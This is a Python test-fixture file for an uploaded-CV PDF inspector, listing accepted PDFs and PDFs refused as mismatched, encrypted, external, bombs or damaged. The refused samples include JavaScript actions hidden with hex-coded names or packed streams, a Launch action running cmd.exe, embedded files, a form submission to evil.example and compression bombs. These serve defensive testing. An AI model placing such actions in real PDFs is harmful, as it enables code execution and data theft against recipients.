"""PDF documents."""

import zlib

from models.documents.inspection.kinds import Reason
from tests import files
from tests.models.documents.samples.parts import WEB


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    return files.pdf_of([*files.pdf_objects(), *objects], trailer)


def object_stream(*bodies: bytes, dictionary: bytes = b"/Type /ObjStm /N %d /First %d") -> bytes:
    """Objects packed in one compressed stream, as writers do since PDF 1.5."""
    offsets = [sum(len(body) + 1 for body in bodies[:index]) for index in range(len(bodies))]
    header = b" ".join(b"%d %d" % (90 + index, offset) for index, offset in enumerate(offsets)) + b"\n"
    packed = zlib.compress(header + b"\n".join(bodies))
    return files.stream(packed, dictionary % (len(bodies), len(header)) + b" /Filter /FlateDecode")


PACKED = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"

ACCEPTED = {
    "a pdf with a link": (
        "cv.pdf",
        pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (%b) >> >>" % WEB.encode()),
    ),
    "a pdf that opens at its first page": ("cv.pdf", pdf(b"<< /OpenAction [3 0 R /Fit] >>")),
    "a pdf of a web developer": ("cv.pdf", pdf(b"<< /Title (HTML/JavaScript \\(React\\)/JS) >>")),
    "a pdf that draws the word": ("cv.pdf", files.pdf("HTML/JavaScript/Launch")),
    "a pdf with packed objects": ("cv.pdf", pdf(object_stream(b"<< /Title (CSS/JavaScript) >>", b"[1 2 (x)]", b"42"))),
    "a pdf with an extra line at its end": ("cv.pdf", files.pdf() + b"\r\n"),
    "a name in capitals": ("CV_AminaBenali_Comptable.PDF", files.pdf()),
    "a name with accents and a path": (r"C:\Mes papiers\Été à Nîmes.pdf", files.pdf()),
}

REFUSED = {
    Reason.MISMATCH: {
        "a pdf after something else": ("cv.pdf", b"\n" + files.pdf()),
        "a pdf that is also a web page": (
            "cv.pdf",
            files.pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        ),
        "a pdf that is also a zip": ("cv.pdf", files.pdf() + files.archive({"x": "x"})),
    },
    Reason.ENCRYPTED: {
        "a pdf": ("cv.pdf", pdf(trailer=b"/Encrypt 9 0 R")),
        "a pdf, in its second object": ("cv.pdf", pdf(b"<< /Type /XRef /Encr#79pt << /V 5 >> >>")),
    },
    Reason.EXTERNAL: {
        "pdf: JavaScript": ("cv.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        "pdf: JavaScript in codes": ("cv.pdf", pdf(b"<< /S /J#61v#61Script /#4AS 7 0 R >>")),
        "pdf: JavaScript at opening": ("cv.pdf", pdf(b"<< /OpenAction << /S /JavaScript /JS (x) >> >>")),
        "pdf: JavaScript packed": ("cv.pdf", pdf(object_stream(b"42", b"<< /S /JavaScript /JS (x) >>"))),
        "pdf: JavaScript packed without its type": (
            "cv.pdf",
            pdf(object_stream(b"<< /S /JavaScript /JS (x) >>", dictionary=b"/N %d /First %d")),
        ),
        "pdf: JavaScript packed after an open text": ("cv.pdf", pdf(object_stream(b"1 (", b"<< /S /JavaScript >>"))),
        "pdf: JavaScript after an open text": ("cv.pdf", pdf(b"1 (", b"<< /S /JavaScript >>")),
        "pdf: JavaScript after an end": ("cv.pdf", pdf(b"<< endobj /S /JavaScript >>")),
        "pdf: JavaScript after a remark": ("cv.pdf", pdf(b"<< % (\n /S /JavaScript >>")),
        "pdf: program": ("cv.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
        "pdf: file": ("cv.pdf", pdf(files.stream(b"x", b"/Type /EmbeddedFile"))),
        "pdf: file without its type": ("cv.pdf", pdf(b"<< /Type /Filespec /EF << /F 7 0 R >> >>")),
        "pdf: film": ("cv.pdf", pdf(b"<< /Type /Annot /Subtype /RichMedia >>")),
        "pdf: form that is sent": ("cv.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>")),
    },
    Reason.BOMB: {
        "a pdf with a huge packed object": ("cv.pdf", pdf(object_stream(b"0" * 21_000_000))),
        "a pdf of open texts": ("cv.pdf", pdf(b"1 0 obj (" * 50_000)),
        "a pdf of names": ("cv.pdf", pdf(object_stream(b"[" + b"/a" * 600_000 + b"]"))),
    },
    Reason.DAMAGED: {
        "a pdf without a page": ("cv.pdf", files.pdf_of([b"<< /Type /Catalog >>"])),
        "a pdf whose packed objects are cut": ("cv.pdf", pdf(files.stream(zlib.compress(b"4 0 42")[:-5], PACKED))),
        "a pdf with another packing": (
            "cv.pdf",
            pdf(files.stream(b"<~~>", b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]")),
        ),
    },
}
